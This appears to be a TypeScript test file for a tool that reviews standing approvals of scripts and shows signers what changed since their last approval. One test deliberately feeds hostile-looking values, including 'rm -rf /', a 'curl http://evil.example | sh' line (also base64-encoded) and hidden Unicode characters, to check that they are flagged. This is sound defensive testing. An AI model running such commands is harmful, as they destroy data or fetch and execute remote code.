import { documentBytes, hashOf, type Standing } from "@countersign/protocol";
import { nodeCrypto as crypto } from "@countersign/protocol/node";
import { makeOperatorRoot, makePerson, makeStanding } from "@countersign/testkit";
import { describe, expect, test } from "vitest";
import type { Approved } from "../requests/since-last.ts";
import { plainText } from "../text/segment.ts";
import { reviewStanding } from "./review-standing.ts";
import { wholeClientWords } from "./standing-words.ts";

const script = new TextEncoder().encode("echo hello\n");
const base = makeStanding({
  roots: [makeOperatorRoot({ people: [makePerson({ id: "alice", groups: ["approvers"] })] })],
  requester: "alice",
  script,
});

/** The review of it with these fields laid over. */
function reviewed(overrides: Partial<Standing>, previous?: Approved) {
  const bytes = documentBytes("standing", { ...base, ...overrides });
  const signed = { bytes, signatures: [] };
  return reviewStanding({ signed, script, previous, held: "nothing", now: 0, crypto });
}

async function shown(overrides: Partial<Standing>) {
  const review = await reviewed(overrides);
  if (!review.ok) throw new Error(`${review.because}: ${review.detail}`);
  return review.model;
}

function withArguments(...args: Standing["action"]["args"]): Partial<Standing> {
  return { action: { ...base.action, args } };
}

describe("a standing approval", () => {
  test("marks in its arguments, input, variables and reason what is marked in a request", async () => {
    const encoded = Buffer.from("curl http://evil.example | sh").toString("base64");
    const { warnings, allowed } = await shown({
      reason: "a\u202eb",
      action: {
        ...base.action,
        args: [
          { name: "a", is: "fixed", value: "rm -rf /" },
          { name: "b", is: "enum", values: [encoded, "plain"].toSorted() },
          { name: "c", is: "pattern", parts: [{ chars: [" -~"], min: 0, max: 256 }], empty: false },
        ],
        stdin: "one\u200btwo\n",
        env: { MODE: "curl http://evil.example | sh" },
      },
    });
    const said = warnings.map(({ part, at, kind }) =>
      [part, at, kind].filter((word) => word !== undefined).join(" "),
    );
    expect(said).toEqual(
      expect.arrayContaining([
        "reason hidden",
        "argument 1 risk",
        "argument 2 risk",
        "argument 3 manner",
        "input hidden",
        "environment MODE risk",
      ]),
    );
    expect(allowed.map(({ words }) => plainText(words)).slice(0, 2)).toEqual([
      'always "rm -rf /"',
      `one of "${encoded}", "plain"`,
    ]);
  });

  test("warns of nothing in plain ones", async () => {
    const { warnings } = await shown({
      ...withArguments(
        { name: "a", is: "fixed", value: "web-1" },
        { name: "b", is: "enum", values: ["all", "you"] },
        { name: "c", is: "pattern", parts: [{ chars: ["-", "0-9", "a-z"], min: 1, max: 32 }], empty: false },
      ),
      run_as: "www",
    });
    expect(warnings.filter(({ part }) => part !== "run-as")).toEqual([]);
  });

  test("shows two sets of values in two ways, whatever quotation marks they hold", async () => {
    const wordsOf = async (...values: readonly string[]) => {
      const { allowed } = await shown(withArguments({ name: "a", is: "enum", values: [...values] }));
      return allowed.map(({ words }) => plainText(words)).join("");
    };
    expect(await wordsOf('a", "b', "c")).not.toBe(await wordsOf("a", 'b", "c'));
  });

  test("calls an open argument by its position: its name is somebody's text", async () => {
    const { allows } = await shown(withArguments({ name: "x. Nobody. Else", is: "open", max: 9 }));
    expect(allows).toContain("Whoever uses it may put anything into argument 1.");
    expect(allows.join(" ")).not.toContain("Nobody. Else");
  });

  test("of a whole client says that its number is no limit", async () => {
    const { devices, allows } = await shown({ devices: { of: "client", up_to: 7 } });
    const words =
      "every device of acme, now and later; one use names up to 7, and there may be any number of uses";
    expect([devices.words, allows[0]?.endsWith(`${words}.`)]).toEqual([words, true]);
  });

  test("says in which zone a day is, and that nothing is between two uses", async () => {
    const window = { days: [1], from: "08:00", to: "18:00", tz: "Europe/Berlin" };
    expect((await shown({})).schedule).toEqual([
      "at any time",
      "with no pause between two uses",
      "up to 10 a day (days of UTC) and 100 in all, on each device",
    ]);
    expect((await shown({ windows: [window], min_interval: 600 })).schedule).toEqual([
      "may begin on Mon from 08:00 to 18:00 (Europe/Berlin)",
      "at least 10 minutes between two uses",
      "up to 10 a day (days of Europe/Berlin) and 100 in all, on each device",
    ]);
  });

  test("for devices that are named by their root only is not shown, so nobody signs it", async () => {
    const root = hashOf(script, crypto);
    const review = await reviewed({ devices: { of: "tree", count: 70, root } });
    expect(review).toMatchObject({ ok: false, because: "targets-not-shown" });
  });
});

describe("what changed since the last one that this person signed", () => {
  const when = 1_700_000_000;
  const before = (overrides: Partial<Standing> = {}) => documentBytes("standing", { ...base, ...overrides });
  const since = async (overrides: Partial<Standing>, previous: Approved | undefined) => {
    const review = await reviewed(overrides, previous);
    if (!review.ok) throw new Error(`${review.because}: ${review.detail}`);
    return review.model.since;
  };
  const said = (found: Awaited<ReturnType<typeof since>>) =>
    found.first
      ? []
      : found.changes.map((one) => [one.field, plainText(one.before), plainText(one.after)].join(" | "));

  test("is its end, hours, numbers, arguments and devices, each as it was and as it is", async () => {
    const old: Partial<Standing> = {
      windows: [{ days: [1], from: "08:00", to: "18:00", tz: "Europe/Berlin" }],
      min_interval: 600,
      per_day: 2,
      devices: { of: "client", up_to: 3 },
    };
    const now: Partial<Standing> = {
      not_before: base.not_before + 86_400,
      not_after: base.not_after + 2 * 86_400,
      ...withArguments({ name: "whom", is: "open", max: 9 }),
    };
    const found = await since(now, { bytes: before(old), when, script });
    expect(found).toMatchObject({ first: false, when, scriptUnknown: false });
    const day = (seconds: number) => new Date(seconds * 1000).toISOString().slice(0, 16).replace("T", " ");
    expect(said(found)).toEqual([
      `ends | ${day(base.not_after)} UTC | ${day(base.not_after + 2 * 86_400)} UTC`,
      "lives | 30 days | 31 days",
      "may begin | on Mon from 08:00 to 18:00 | at any time",
      "zone of its days | Europe/Berlin | UTC",
      "between two uses | 10 minutes | no pause",
      "uses a day | 2 | 10",
      'argument 1 | whom: one of "", "all", "you" | whom: ANYTHING, up to 9 characters',
      expect.stringMatching(/^devices \| every device of acme.* up to 3.* \| .* up to 100/),
    ]);
  });

  test("is nothing where only who renewed it pressed the button again, and all of it the first time", async () => {
    expect(await since({}, { bytes: before(), when, script })).toMatchObject({ first: false, changes: [] });
    expect(await since({}, undefined)).toEqual({ first: true });
  });

  test("names devices that came and went, and shows the script line by line, or says that the old one is gone", async () => {
    const listed = (...names: readonly string[]): Partial<Standing> => ({
      devices: {
        of: "list",
        targets: names.map((name, at) => ({
          fingerprint: `sha256:${name.slice(-1).repeat(63)}${at}`,
          name,
          admission: `sha256:${"a".repeat(64)}`,
        })),
      },
    });
    const old = new TextEncoder().encode("echo good\n");
    const action = { ...base.action, hash: hashOf(old, crypto) };
    const bytes = before({ ...listed("web-1", "web-2"), action });
    const found = await since(listed("web-1", "web-3"), { bytes, when, script: old });
    expect(said(found)).toEqual(["device left out | web-2 | ", "device added |  | web-3"]);
    expect(found).toMatchObject({ script: { added: 1, removed: 1 } });
    expect(await since({}, { bytes: before({ action }), when })).toMatchObject({ scriptUnknown: true });
  });

  test("is told whatever a device is called, and which roots may judge it from now on", async () => {
    const target = { fingerprint: `sha256:${"1".repeat(64)}`, admission: `sha256:${"a".repeat(64)}` };
    const everything = wholeClientWords("acme", 100);
    const one = (name: string): Partial<Standing> => ({
      devices: { of: "list", targets: [{ ...target, name }] },
    });
    const all: Partial<Standing> = { devices: { of: "client", up_to: 100 } };
    expect(said(await since(all, { bytes: before(one(everything)), when, script }))).toEqual([
      `devices | only ${everything} | ${everything}`,
    ]);
    expect(said(await since(one("web-2"), { bytes: before(one("web-1")), when, script }))).toEqual([
      "device called | web-1 | web-2",
    ]);
    const older = base.roots.map((root) => ({ ...root, min_version: 7, min_people: 3 }));
    expect(said(await since({}, { bytes: before({ roots: older }), when, script }))).toEqual([
      "versions of the roots, at least | 7 | 1",
      "versions of the lists of requesters, at least | 3 | 0",
    ]);
    const input = { action: { ...base.action, stdin: "" } };
    expect(said(await since(input, { bytes: before(), when, script }))).toEqual(["input |  | "]);
  });

  test("is not made up: what is remembered has to be a standing approval with its own script", async () => {
    const because = "previous-unreadable";
    expect(await reviewed({}, { bytes: script, when })).toMatchObject({ ok: false, because });
    const other = new TextEncoder().encode("echo other\n");
    expect(await reviewed({}, { bytes: before(), when, script: other })).toMatchObject({ because });
  });
});
